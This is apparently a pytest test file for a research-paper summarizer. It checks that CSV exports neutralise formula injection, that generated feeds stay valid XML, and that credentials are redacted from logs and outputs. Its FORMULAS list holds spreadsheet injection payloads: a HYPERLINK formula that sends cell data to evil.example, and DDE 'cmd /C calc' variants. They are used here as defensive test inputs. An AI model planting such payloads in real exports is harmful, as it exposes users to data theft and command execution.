"""Exports and feeds stay inert, and credentials stay out of every output (issue 12)."""

from __future__ import annotations

import csv
import json
import logging
import os
import re
import socket
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from summarizer.digest import DigestMeta, write_digest
from summarizer.digest.extractive import ExtractiveOverviewWriter
from summarizer.export import card_row, csv_safe, write_csv
from summarizer.llm.events import Event, EventKind, log_event
from summarizer.models import Extraction, ExtractorInfo, Gain, Method, PaperCard, Resources
from summarizer.pipeline import Failure
from summarizer.redact import redact
from summarizer.settings import Settings
from summarizer.sources.records import make_paper
from summarizer.themes import assign_themes
from tests.cards_factory import sample_cards

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _card(title: str, task: str | None = None, method: str | None = None, value: str = "13%",
          url: str | None = None) -> PaperCard:
    paper = make_paper(title=title, abstract="We cut error by 13% on ETTh1.", source="s.jsonl", position=0, url=url)
    extraction = Extraction(task=task, method=Method(name=method),
                            claimed_gains=[Gain(value=value, evidence="We cut error by 13% on ETTh1.")],
                            resources=Resources(datasets=["ETTh1"]))
    return PaperCard.build(paper, extraction, ExtractorInfo(backend="rules"))


def _csv_rows(tmp_path: Path, cards: list[PaperCard]) -> list[dict[str, str]]:
    path = write_csv(cards, tmp_path / "cards.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, formula: str) -> None:
    card = _card(formula, task=formula, method=formula)
    row = _csv_rows(tmp_path, [card])[0]
    for column in ("title", "task", "method_name"):
        assert row[column] == "'" + str(card_row(card)[column]), column  # text: the original follows the quote
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert csv_safe(formula) == "'" + formula  # cards strip leading whitespace; the guard does not rely on it


def test_csv_keeps_plain_numbers_and_ordinary_text(tmp_path: Path) -> None:
    row = _csv_rows(tmp_path, [_card("A-1 for all: robust ranking", task="ranking", method="A-1", value="-3.5%")])[0]
    assert row["title"] == "A-1 for all: robust ranking" and row["method_name"] == "A-1"
    assert row["gain_values"] == "-3.5%"


# XML 1.0 `Char`: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
_NOT_XML_CHAR = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
FORBIDDEN = "\x00\x01\x08\x0b\x0c\x1b\x1f\ufffe\uffff"


def test_the_feed_never_carries_characters_xml_forbids(tmp_path: Path) -> None:
    odd = _card(f"Noisy{FORBIDDEN}title", task=f"task{FORBIDDEN}", method=f"Net{FORBIDDEN}",
                url=f"https://arxiv.org/abs/2410.0001{FORBIDDEN}")
    cards = [odd, *list(sample_cards())[:8]]
    themed = assign_themes(cards)
    overviews = ExtractiveOverviewWriter().write_overviews(themed.by_theme())
    paths = write_digest(themed, overviews, tmp_path, DigestMeta(date="2026-11-22", sources=[f"s{FORBIDDEN}.jsonl"]))
    for path in paths:
        text = path.read_text(encoding="utf-8")
        assert not _NOT_XML_CHAR.search(text), (path.name, _NOT_XML_CHAR.findall(text))
    feed = ET.fromstring((tmp_path / "digest.xml").read_bytes())  # expat rejects U+FFFE/U+FFFF and C0 controls
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Noisytitle" in titles


SECRET = "s3cr3t-pw"
CREDENTIALED = f"http://alice:{SECRET}@127.0.0.1:9/v1"


def test_redact_masks_userinfo_and_secret_query_values() -> None:
    assert redact(f"GET {CREDENTIALED}/chat") == "GET http://***@127.0.0.1:9/v1/chat"
    assert redact("https://token123@proxy.example/v1") == "https://***@proxy.example/v1"
    assert redact("https://h/v1?api-key=abc&x=1") == "https://h/v1?api-key=***&x=1"
    assert redact("write to a@b.example, see https://h/v1") == "write to a@b.example, see https://h/v1"


def test_settings_written_to_run_json_carry_no_credentials() -> None:
    settings = Settings.model_validate({"base_url": CREDENTIALED, "api_key": "sk-key"})
    public = json.dumps(settings.public_dict())
    assert SECRET not in public and "sk-key" not in public and "127.0.0.1:9/v1" in public


def test_log_lines_and_failure_reasons_carry_no_credentials(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG, logger="summarizer")
    detail = f"Client error '404 Not Found' for url '{CREDENTIALED}/chat/completions'"
    log_event(Event(EventKind.RETRY, "p1", reason="http_404", detail=detail, wait_s=0.1))
    log_event(Event(EventKind.FAILURE, "p1", reason=detail))
    assert "404 Not Found" in caplog.text and SECRET not in caplog.text
    assert SECRET not in Failure(id="p1", title="t", reason=detail).reason


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_a_run_against_a_credentialed_base_url_writes_the_secret_nowhere(tmp_path: Path) -> None:
    url = f"http://alice:{SECRET}@127.0.0.1:{_closed_port()}/v1"  # nothing listens: every paper fails fast
    out = tmp_path / "out"
    env = {**os.environ, "OPENAI_BASE_URL": url, "SUMMARIZER_MAX_ATTEMPTS": "1", "SUMMARIZER_MAX_REASKS": "0",
           "SUMMARIZER_CACHE_DIR": str(tmp_path / "cache")}
    env.pop("OPENAI_API_KEY", None)
    fixture = Path(__file__).parent / "fixtures" / "papers.jsonl"
    result = subprocess.run([sys.executable, "-m", "summarizer", "run", str(fixture), "--backend", "llm",
                             "--out", str(out)], capture_output=True, text=True, timeout=300, env=env)
    assert result.returncode == 1, result.stderr
    assert SECRET not in result.stderr + result.stdout
    report = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert report["settings"]["base_url"] == url.replace(f"alice:{SECRET}", "***")
    for path in [*out.iterdir(), *(tmp_path / "cache").rglob("*")]:
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path.name
